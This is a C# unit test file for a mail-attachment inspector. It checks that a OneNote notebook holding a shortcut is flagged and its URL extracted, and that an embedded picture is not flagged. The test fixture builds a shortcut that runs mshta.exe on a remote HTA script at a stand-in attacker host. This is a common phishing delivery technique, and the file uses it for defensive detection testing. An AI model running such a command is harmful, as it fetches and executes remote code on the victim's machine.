using Weir.Mail.Tests.Support;

namespace Weir.Mail.Tests.Inspection.Readers;

public sealed class OneNoteFileTests
{
    [Fact]
    public void A_file_in_a_notebook_is_told_and_read()
    {
        var one = ActiveFiles.OneNote(ActiveFiles.Lnk("mshta.exe", "https://evil.example/a.hta"));

        Assert.Equal("lnk-downloads lnk-runs-script lnk-target onenote-file", Inspected.Features("a.one", one));
        Assert.Contains("https://evil.example/a.hta", Inspected.Urls("a.one", one));
    }

    [Fact]
    public void A_picture_in_a_notebook_is_no_matter() => Assert.Equal("", Inspected.Features("a.one", ActiveFiles.OneNote([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0])));
}
